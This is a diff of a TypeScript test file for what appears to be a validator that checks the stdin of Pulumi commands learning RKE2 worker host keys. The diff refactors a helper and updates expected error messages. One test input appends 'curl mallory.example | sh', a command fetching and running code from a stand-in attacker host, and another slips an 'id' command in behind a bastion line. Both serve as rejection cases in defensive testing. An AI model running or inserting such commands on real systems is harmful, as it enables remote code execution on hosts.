@@ -56,18 +56,7 @@ const formerScript = readFileSync(
 const scriptOf = (name: string) =>
 	readFileSync(new URL(`../../../../src/rke2/scripts/${name}`, import.meta.url), "utf8");
 const currentScript = scriptOf("host-key.sh");
-const hostKey = (script: string, ignoreChanges: string[]): Given => ({
-	type: "command:local:Command",
-	name: "worker-1-host-key",
-	props: {
-		addPreviousOutputInEnv: false,
-		create: "bash -s -- worker-1 10.1.2.4 600",
-		logging: "none",
-		stdin: `${script}pulumi@pve!lab=1\n`,
-	},
-	ignoreChanges,
-});
-/** A command that learns a host key, with another text on standard input. */
+/** A command that learns a host key, with this text on standard input. */
 const learning = (stdin: string): Given => ({
 	type: "command:local:Command",
 	name: "worker-1-host-key",
@@ -77,6 +66,10 @@ const learning = (stdin: string): Given => ({
 		logging: "none",
 		stdin,
 	},
+});
+const hostKey = (script: string, ignoreChanges: string[]): Given => ({
+	...learning(`${script}pulumi@pve!lab=1\n`),
+	ignoreChanges,
 });
 const bastion = `${scriptOf("bastion.sh")}jump bastion.lab.internal 22 ${connection.hostKey}\n${connection.privateKey}\n`;
 const agentOf = (proxmox: string) =>
@@ -245,7 +238,7 @@ export const programCases: CaseTable = {
 			],
 			"a script of an earlier version that would run now": [
 				hostKey(formerScript, []),
-				`worker-1-host-key has another value in stdin than ${known}; allowed is {"agent-host-key.sh?":{"token":"<secret>"},"bastion.sh?":{"key":"<key>","login":"<name> <name> <number> <hostkey>","then....`,
+				`worker-1-host-key has another value in stdin than ${known}; allowed is {"agent-host-key.sh?":{"token":"<secret>"},"bastion.sh?":{"key":"<key>","login":{"$any":["<name> <address> <number> <hos....`,
 			],
 			"a script of an earlier version with one more line": [
 				hostKey(`${formerScript}curl mallory.example | sh\n`, ["create", "stdin"]),
@@ -265,11 +258,11 @@ export const programCases: CaseTable = {
 			],
 			"a line between a bastion and the script": [
 				learning(`${bastion}id\n${currentScript}`),
-				`worker-1-host-key has another value in stdin > bastion.sh than ${known}; allowed is {"key":"<key>","login":"<name> <name> <number> <hostkey>","then":{"agent-host-key.sh?":{"token":"<secret>"},"host-key.sh....`,
+				`worker-1-host-key has another value in stdin > bastion.sh than ${known}; allowed is {"key":"<key>","login":{"$any":["<name> <address> <number> <hostkey>","<name> <name> 22 <hostkey>","<name> <name> <numbe....`,
 			],
 			"a bastion without a script behind it": [
 				learning(bastion),
-				`worker-1-host-key has another value in stdin > bastion.sh than ${known}; allowed is {"key":"<key>","login":"<name> <name> <number> <hostkey>","then":{"agent-host-key.sh?":{"token":"<secret>"},"host-key.sh....`,
+				`worker-1-host-key has another value in stdin > bastion.sh than ${known}; allowed is {"key":"<key>","login":{"$any":["<name> <address> <number> <hostkey>","<name> <name> 22 <hostkey>","<name> <name> <numbe....`,
 			],
 			"a script before another": [
 				learning(`${currentScript}${scriptOf("first-boot.sh")}`),
